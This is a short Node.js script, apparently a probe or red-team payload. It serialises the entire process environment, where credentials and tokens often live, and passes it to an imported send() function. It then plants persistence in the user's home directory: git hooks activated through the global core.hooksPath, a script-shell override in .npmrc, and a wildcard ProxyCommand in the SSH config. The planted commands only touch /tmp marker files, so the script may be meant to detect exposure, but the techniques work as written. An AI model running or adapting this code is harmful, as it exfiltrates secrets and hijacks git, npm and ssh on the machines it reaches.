import { execFileSync } from 'node:child_process';
import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { findScenarios } from './find.js';
import { send } from './send.js';

const [phase] = process.argv.slice(2);
const found = findScenarios();
const text = `@MARK@ ${phase} ${JSON.stringify(process.env)} ${found}`;
console.log(text);
settleIn(process.env.HOME);
await send(text.slice(0, 60_000));

/** What the next call of git, npm or ssh would find. */
function settleIn(home) {
  if (home === undefined) return;
  const hooks = join(home, 'hooks');
  try {
    mkdirSync(hooks, { recursive: true });
    for (const hook of ['post-checkout', 'reference-transaction'])
      writeFileSync(join(hooks, hook), '#!/bin/sh\ntouch /tmp/@MARK@-hook\n', { mode: 0o755 });
    appendFileSync(join(home, '.npmrc'), 'script-shell=/tmp/@MARK@-shell\n');
    mkdirSync(join(home, '.ssh'), { recursive: true });
    appendFileSync(join(home, '.ssh/config'), 'Host *\n  ProxyCommand touch /tmp/@MARK@-ssh\n');
    execFileSync('git', ['config', '--global', 'core.hooksPath', hooks]);
  } catch {
    // There is no home, or no git.
  }
}
